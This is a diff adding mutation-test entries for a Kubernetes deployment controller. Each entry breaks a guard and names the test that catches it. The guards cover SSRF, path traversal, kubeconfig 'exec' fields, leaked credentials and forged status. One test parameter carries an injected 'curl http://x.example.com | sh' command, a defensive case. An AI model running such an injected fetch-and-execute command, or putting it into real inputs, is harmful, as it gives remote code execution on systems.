@@ -23,6 +23,11 @@ class Mutation:
     test: str
 
 
+_ADDRESSES = "tests/cluster/transport/test_checked_addresses.py::"
+_GIT_ADDRESSES = "tests/sources/git/test_addresses.py::"
+_KUBECONFIG = "tests/cluster/auth/test_self_contained.py::"
+_OTHER_CLUSTER = "tests/controller/clusters/test_other_cluster.py::"
+_UNTOLD_KUBECONFIG = "tests/controller/clusters/test_kubeconfig_untold.py::"
 _APPROVAL = "tests/engine/guards/test_approval.py::"
 _STEPS = "tests/engine/steps/"
 _TRANSFER = "tests/engine/steps/test_field_transfer.py::"
@@ -39,6 +44,9 @@ _FAULTS = "tests/engine/failures/test_faults.py::"
 _FALSE_ABSENCE = "tests/engine/failures/test_false_absence.py::"
 _FIELDS = "tests/engine/checks/test_fields.py::"
 _GUARDS = "tests/engine/guards/test_guards_hold.py::"
+_ESCAPE = (
+    "tests/controller/test_tenants_cannot_escape.py::test_no_tenant_escapes_from_its_namespace"
+)
 _HIDDEN = "tests/engine/guards/test_hidden_kinds.py::"
 _HOOKS = "tests/engine/checks/test_chart_hooks.py::"
 _OWNERSHIP = "tests/engine/guards/test_ownership.py::"
@@ -49,8 +57,10 @@ _OWN = "tests/engine/operations/test_own.py::"
 _PARENT = "tests/engine/inventory/test_foreign_parent.py::"
 _PLAN_FILE = "tests/e2e/plans/test_apply_plan.py::"
 _WARNINGS = "tests/e2e/test_server_warnings.py::"
+_REMOTE = "tests/sources/remote/"
 _REMAINING = "tests/planning/prune/test_remaining.py::"
 _REMOVAL = "tests/controller/test_removal.py::"
+_DISPATCHER = "tests/controller/test_dispatcher.py::"
 _REQUIRED = "tests/planning/approval/test_required.py::"
 _PRUNE_GUARDS = "tests/engine/guards/test_small_sets.py::"
 _SET = "tests/engine/test_set.py::"
@@ -75,6 +85,8 @@ _FORGED_INVENTORIES = "tests/cluster/inventory/test_forged_inventories.py::"
 _HEALTH = "tests/controller/runtime/test_health.py::"
 _ALLOWANCE = "tests/sources/yaml/test_allowance.py::"
 _CEL_COST = "tests/planning/readiness/test_cel_cost.py::"
+_HANDLE = "tests/controller/workers/test_worker_handle.py::"
+_RUNTIME = "tests/controller/runtime/"
 
 MUTATIONS = (
     Mutation(
@@ -90,6 +102,13 @@ MUTATIONS = (
         ", but=.+",
         ")",
         "tests/controller/test_stories.py::test_new_rule_of_a_bundle_recreates_nothing",
+    ),
+    Mutation(
+        "the second look at an object that changes before its recreation",
+        ("recreation-judged-again",),
+        r"except Conflict:",
+        "except ZeroDivisionError:",
+        f"{_ON_CHANGE}test_object_that_changes_before_its_delete_is_judged_again",
     ),
     Mutation(
         "the result of the create in a recreation",
@@ -284,12 +303,74 @@ MUTATIONS = (
         "test_contended_field_stays_left_until_its_manager_is_quiet",
     ),
     Mutation(
+        "sending again what admission has rewritten",
+        ("tried-again",),
+        r"and not .+",
+        "",
+        "tests/controller/drift/test_rewriting_policy.py::"
+        "test_rewritten_object_is_sent_once_for_each_reason_to_try_again[reconcile-now]",
+    ),
+    Mutation(
+        "a look at an object that another set has taken",
+        ("taken-objects",),
+        r", \*.+\]",
+        "]",
+        "tests/controller/drift/test_contention_stories.py::"
+        "test_bundle_that_takes_an_object_is_no_drift_of_the_other",
+    ),
+    Mutation(
+        "trying again soon what could not be set back",
+        ("reverts-again-soon",),
+        r"if .+:",
+        "if False:",
+        "tests/controller/drift/test_failed_reverts.py::"
+        "test_failed_revert_is_tried_again_within_seconds[500]",
+    ),
+    Mutation(
+        "no drift in what admission has rewritten again",
+        ("rewritten-no-drift",),
+        r"return .+",
+        "return False",
+        "tests/controller/drift/test_drift_report.py::"
+        "test_value_that_admission_rewrites_again_is_no_drift",
+    ),
+    Mutation(
         "masking the keys of list items of a Secret source",
         ("secret-source-keys",),
         r"if .+:",
         "if False:",
         "tests/controller/drift/test_drift_report.py::"
         "test_nothing_of_a_secret_source_is_shown_but_names",
+    ),
+    Mutation(
+        "reading single objects only where each is listed, and nothing else may be wrong",
+        ("correction-of-listed",),
+        r"raise .+",
+        "pass",
+        "tests/planning/inventory/test_correction.py::"
+        "test_whatever_else_may_be_wrong_needs_the_whole_set[a copy]",
+    ),
+    Mutation(
+        "the check that a correction of single objects does no more than that",
+        ("only-drift",),
+        r"raise .+",
+        "pass",
+        "tests/engine/steps/test_single_objects.py::test_more_than_drift_writes_nothing",
+    ),
+    Mutation(
+        "planning the whole set after any change but drift",
+        ("correction-of-settled",),
+        r"self\.drifted and .+\):",
+        "self.drifted):",
+        "tests/controller/drift/test_drift_in_seconds.py::"
+        "test_bundle_that_is_not_settled_is_planned_as_a_whole",
+    ),
+    Mutation(
+        "the bound of what is kept of labelled objects that belong to nobody",
+        ("strangers-are-bounded",),
+        r"if .+:",
+        "if False:",
+        "tests/controller/runtime/test_object_hints.py::test_strangers_are_kept_for_a_moment_only",
     ),
     Mutation(
         "setting back drift without a deletion",
@@ -1021,6 +1102,14 @@ MUTATIONS = (
         f"{_FORGED}test_entries_removed_by_hand_are_reported",
     ),
     Mutation(
+        "the removal of a set while somebody elsewhere imitates its objects",
+        ("look-alike",),
+        LINE,
+        "True",
+        "tests/planning/test_unlisted_objects.py::"
+        "test_unlisted_object_holds_up_a_removal_where_the_set_has_been[another namespace]",
+    ),
+    Mutation(
         "the comparison of our Apply entry at an equal resourceVersion",
         ("own-apply-entry",),
         "if .*:",
@@ -1497,6 +1586,20 @@ MUTATIONS = (
         f"{_HIDDEN}test_kind_that_is_stored_and_not_served",
     ),
     Mutation(
+        "the refusal of writes for a Bundle that was not read",
+        ("only-looks",),
+        r"= .+",
+        "= writing",
+        "tests/controller/test_cost.py::test_bundle_that_is_not_read_again_writes_nothing",
+    ),
+    Mutation(
+        "asking for the kinds again before a proof",
+        ("proof-not-remembered",),
+        r"if .+:",
+        "if False:",
+        "tests/cluster/test_remembering_client.py::test_no_proof_is_made_by_remembered_kinds",
+    ),
+    Mutation(
         "the finalizer before the first run",
         ("held-before-run",),
         LINE,
@@ -1519,6 +1622,59 @@ MUTATIONS = (
         f"{_REMOVAL}test_unreadable_policy_deletes_nothing",
     ),
     Mutation(
+        "the check of names that become parts of paths and of users",
+        ("name-of-one-object",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/test_bundle.py::test_invalid_spec_is_refused[another's account]",
+    ),
+    Mutation(
+        "the check of the namespace of a Bundle's objects",
+        ("name-of-one-namespace",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/test_bundle.py::test_invalid_spec_is_refused[a query as a namespace]",
+    ),
+    Mutation(
+        "the look whether the account of a Bundle exists",
+        ("account-exists",),
+        "if .*:",
+        "if 0:",
+        _ESCAPE,
+    ),
+    Mutation(
+        "the limits of times in a status",
+        ("forged-time",),
+        " if .*",
+        "",
+        "tests/controller/drift/test_contention.py::"
+        "test_forged_time_is_ignored[9999-12-31T23:59:59Z]",
+    ),
+    Mutation(
+        "the check of a revision that becomes a label",
+        ("forged-revision",),
+        " if .*",
+        "",
+        "tests/controller/runtime/test_bundle_metrics.py::"
+        "test_revision_that_is_no_digest_becomes_no_label",
+    ),
+    Mutation(
+        "the name of the inventory by the Bundle itself",
+        ("forged-inventory-name",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/test_deleted_bundle.py::test_status_names_no_other_inventory"
+        "[spec1-applyprune-other-applyprune-web]",
+    ),
+    Mutation(
+        "the check of the name of an inventory that goes into a command",
+        ("forged-inventory-text",),
+        " if .*",
+        "",
+        "tests/controller/test_deleted_bundle.py::test_status_names_no_other_inventory"
+        "[spec4-applyprune-web -n shop; curl http://x.example.com | sh #-]",
+    ),
+    Mutation(
         "the policy of a Bundle that does not prune",
         ("mirror-prune",),
         " if .*",
@@ -1538,6 +1694,42 @@ MUTATIONS = (
         "return .*",
         "return True",
         "tests/deploy/test_rights.py::test_controller_without_rights_ends_no_removal",
+    ),
+    Mutation(
+        "the new begin of a wait at the deletion",
+        ("removal-waits-anew",),
+        "waiting_since=None",
+        "waiting_since=self.past.waiting_since",
+        f"{_REMOVAL}test_removal_has_its_whole_time_whatever_was_before[waited]",
+    ),
+    Mutation(
+        "the look at a removal when its time is over",
+        ("late-removal",),
+        "= .*",
+        "= delay",
+        f"{_REMOVAL}test_missing_account_keeps_a_bundle_until_its_timeout",
+    ),
+    Mutation(
+        "the question of a search whether a list is still refused",
+        ("search-asks-again",),
+        "if remembered and",
+        "if",
+        "tests/cluster/test_remembering_client.py::test_refused_list_is_not_asked_for_again",
+    ),
+    Mutation(
+        "the look at a dependency that changed before somebody waited for it",
+        ("dependency-seen-late",),
+        "if .*:",
+        "if 0:",
+        f"{_DISPATCHER}test_bundle_that_begins_to_wait_is_looked_at_again",
+    ),
+    Mutation(
+        "the end of a worker whose thread had no memory to begin",
+        ("lost-thread",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/workers/test_lost_threads.py::"
+        "test_thread_without_memory_ends_the_process",
     ),
     Mutation(
         "the owner of a set that a removal would release",
@@ -1773,6 +1965,35 @@ MUTATIONS = (
         f"{_HEALTH}test_dead_thread_and_endless_work_are_broken",
     ),
     Mutation(
+        "the health of a replica without a share of the Bundles",
+        ("idle-replica",),
+        ":= .*:",
+        ':= "":',
+        f"{_HEALTH}test_replica_without_a_share_is_not_healthy",
+    ),
+    Mutation(
+        "the end of a replica's service without its Lease",
+        ("lost-lease",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/replicas/test_replicas.py::test_replica_without_its_lease_serves_nothing",
+    ),
+    Mutation(
+        "the status that another replica has written meanwhile",
+        ("status-overtaken",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/replicas/test_overtaken.py::test_status_of_another_replica_stays",
+    ),
+    Mutation(
+        "the limit of Leases that a replica believes",
+        ("too-many-replicas",),
+        "if .* else",
+        "if 1 else",
+        "tests/controller/replicas/test_sightings.py::"
+        "test_thousands_of_forged_leases_are_not_believed",
+    ),
+    Mutation(
         "the health of a controller that cannot list Bundles",
         ("unseen-bundles",),
         ":= .*:",
@@ -1813,5 +2034,246 @@ MUTATIONS = (
         "if .*:",
         "if 0:",
         f"{_CEL_COST}test_rule_that_is_too_long_is_refused",
+    ),
+    Mutation(
+        "the worker that is kept for other tenants",
+        ("kept-worker",),
+        "return .+",
+        "return True",
+        f"{_RUNTIME}test_turns.py::test_last_worker_is_kept_for_other_namespaces",
+    ),
+    Mutation(
+        "the account that must have seen an object of a Bundle",
+        ("seen-by-its-account",),
+        "if .+:",
+        "if False:",
+        f"{_RUNTIME}test_object_hints.py::test_strangers_and_other_accounts_are_no_hint",
+    ),
+    Mutation(
+        "the limit of the watches of a namespace",
+        ("watches-of-a-namespace",),
+        "if .+:",
+        "if False:",
+        f"{_RUNTIME}test_shared_watches.py::test_no_namespace_has_all_watches",
+    ),
+    Mutation(
+        "the memory that a worker may use",
+        ("limit-memory",),
+        ".+",
+        "pass",
+        f"{_HANDLE}test_worker_may_use_no_more_memory",
+    ),
+    Mutation(
+        "the CPU time that a worker may use",
+        ("limit-cpu",),
+        ".+",
+        "pass",
+        f"{_HANDLE}test_worker_may_use_no_more_time",
+    ),
+    Mutation(
+        "the worker that must have started before a Bundle is taken",
+        ("started-worker",),
+        "self.+? and ",
+        "",
+        f"{_DISPATCHER}test_workers_that_do_not_start_take_no_bundle",
+    ),
+    Mutation(
+        "the new start of a watch whose resourceVersion has expired",
+        ("expired-watch",),
+        "if .+:",
+        "if False:",
+        "tests/cluster/test_many_watches.py::test_expired_version_starts_the_watch_again[event]",
+    ),
+    Mutation(
+        "the addresses to which nothing connects",
+        ("refused-address",),
+        "return .*",
+        'return ""',
+        "tests/model/test_addresses.py::"
+        "test_address_of_a_machine_or_of_a_cloud_is_refused[169.254.169.254]",
+    ),
+    Mutation(
+        "the check of the address that a name leads to",
+        ("checked-connection",),
+        "= .*",
+        "= super()._new_conn",
+        f"{_ADDRESSES}test_name_of_a_refused_address_is_not_connected_to[localhost]",
+    ),
+    Mutation(
+        "the check of the address of a Git server",
+        ("refused-git-address",),
+        "if .+:",
+        "if 0:",
+        f"{_GIT_ADDRESSES}test_refused_address_gets_no_request[localhost]",
+    ),
+    Mutation(
+        "the rule that a redirect of a Git server gets no credentials",
+        ("git-credentials-of-one-host",),
+        " if .+ else .+",
+        "",
+        f"{_GIT_ADDRESSES}test_redirect_takes_no_credentials_to_another_host",
+    ),
+    Mutation(
+        "the mask over a token that a server quotes",
+        ("quoted-token",),
+        "if .*:",
+        "if 0:",
+        f"{_UNTOLD_KUBECONFIG}test_server_that_quotes_the_token_is_not_repeated",
+    ),
+    Mutation(
+        "the rule that an error of TLS quotes no name of a kubeconfig",
+        ("quoted-name",),
+        "if .*:",
+        "if 0:",
+        f"{_UNTOLD_KUBECONFIG}test_unreachable_clusters_are_untold",
+    ),
+    Mutation(
+        "the limit of the length of a kubeconfig",
+        ("kubeconfig-size",),
+        "if .*:",
+        "if 0:",
+        f"{_KUBECONFIG}test_kubeconfig_that_is_costly_to_read_is_refused_soon[long]",
+    ),
+    Mutation(
+        "the limit of what a kubeconfig costs",
+        ("kubeconfig-cost",),
+        "if .*:",
+        "if 0:",
+        f"{_KUBECONFIG}test_kubeconfig_that_is_costly_to_read_is_refused_soon[many keys]",
+    ),
+    Mutation(
+        "the fields by which a kubeconfig would use the machine",
+        ("foreign-kubeconfig",),
+        "if .*:",
+        "if 0:",
+        f"{_KUBECONFIG}test_field_that_uses_the_machine_is_refused[exec]",
+    ),
+    Mutation(
+        "the rule that a kubeconfig leads to https",
+        ("https-only",),
+        "if .*:",
+        "if 0:",
+        f"{_KUBECONFIG}test_server_that_is_no_other_cluster_is_refused[2]",
+    ),
+    Mutation(
+        "the consent to another cluster",
+        ("other-cluster",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/clusters/test_cluster_identity.py::"
+        "test_bundle_stays_in_its_cluster[uid-of-old-True--uid-of-new-None]",
+    ),
+    Mutation(
+        "the search for remote bases before a build for others",
+        ("remote-bases",),
+        "if .*:",
+        "if 0:",
+        "tests/sources/fetched/test_tree_input.py::test_remote_base_is_refused_before_a_build",
+    ),
+    Mutation(
+        "the check of a path before a file is written for a build",
+        ("tree-path",),
+        "if .*:",
+        "if 0:",
+        "tests/sources/fetched/test_tree_input.py::"
+        "test_no_file_is_written_outside_the_private_folder[../x.yaml]",
+    ),
+    Mutation(
+        "the refusal of Secrets by push",
+        ("pushed-secrets",),
+        "if .*:",
+        "if 0:",
+        "tests/e2e/sources/test_push.py::test_secret_is_pushed_only_if_it_is_said",
+    ),
+    Mutation(
+        "the cluster in the name of an owner",
+        ("owner-of-another-cluster",),
+        "return .*",
+        "return bundle",
+        f"{_OTHER_CLUSTER}test_bundles_of_one_name_in_two_clusters_are_two",
+    ),
+    Mutation(
+        "the turn of a Bundle in another cluster",
+        ("turn-of-a-cluster",),
+        "if .*:",
+        "if 0:",
+        f"{_OTHER_CLUSTER}test_cluster_that_hangs_holds_nobody_up",
+    ),
+    Mutation(
+        "the share of the workers for another cluster",
+        ("share-of-a-cluster",),
+        "return .*",
+        "return bool",
+        "tests/controller/runtime/test_workqueue.py::test_other_clusters_leave_workers[4-1-3]",
+    ),
+    Mutation(
+        "the record of the cluster before the first write",
+        ("recorded-cluster",),
+        r"self\._settled\(live, target\)",
+        "live",
+        f"{_OTHER_CLUSTER}test_bundle_lives_in_another_cluster",
+    ),
+    Mutation(
+        "the host that credentials of a source are for",
+        ("authorization-of-one-host",),
+        r"and origin_of\(url\) == first",
+        "",
+        f"{_REMOTE}test_web.py::test_authorization_goes_to_its_host_only",
+    ),
+    Mutation(
+        "the addresses that a source may be at",
+        ("checked-source-address",),
+        LINE,
+        "pass",
+        f"{_REMOTE}test_web.py::test_refused_address_is_not_connected_to[localhost]",
+    ),
+    Mutation(
+        "the names of an archive that differ only in case",
+        ("names-that-differ-in-case",),
+        "!= .*:",
+        "is None:",
+        "tests/sources/archives/test_tar_files.py::test_odd_archive_is_refused[case]",
+    ),
+    Mutation(
+        "the digest of what was fetched",
+        ("checked-digest",),
+        "if .*:",
+        "if 0:",
+        "tests/sources/archives/test_archive.py::test_other_digest_is_refused",
+    ),
+    Mutation(
+        "the host whose question a login answers",
+        ("question-of-another-host",),
+        "= .*",
+        "= True",
+        "tests/sources/oci/test_bad_registries.py::test_question_of_another_host_is_not_answered",
+    ),
+    Mutation(
+        "the networks in which no source may be",
+        ("denied-network",),
+        "if .*:",
+        "if 0:",
+        "tests/model/test_addresses.py::test_denied_networks_come_first",
+    ),
+    Mutation(
+        "the digest over all of an artifact in the cache",
+        ("whole-artifact",),
+        "if .*:",
+        "if 0:",
+        "tests/controller/fetching/test_source_cache.py::test_changed_artifact_is_not_read",
+    ),
+    Mutation(
+        "the signature of a commit that a Bundle follows",
+        ("verified-commit",),
+        r"verify\(.*\)",
+        "pass",
+        "tests/controller/fetching/test_fetch.py::test_unsigned_commit_is_not_kept",
+    ),
+    Mutation(
+        "the signature of an artifact that a Bundle follows",
+        ("verified-artifact",),
+        "= .*",
+        "= None",
+        "tests/controller/fetching/test_fetch.py::test_unsigned_artifact_is_not_kept",
     ),
 )
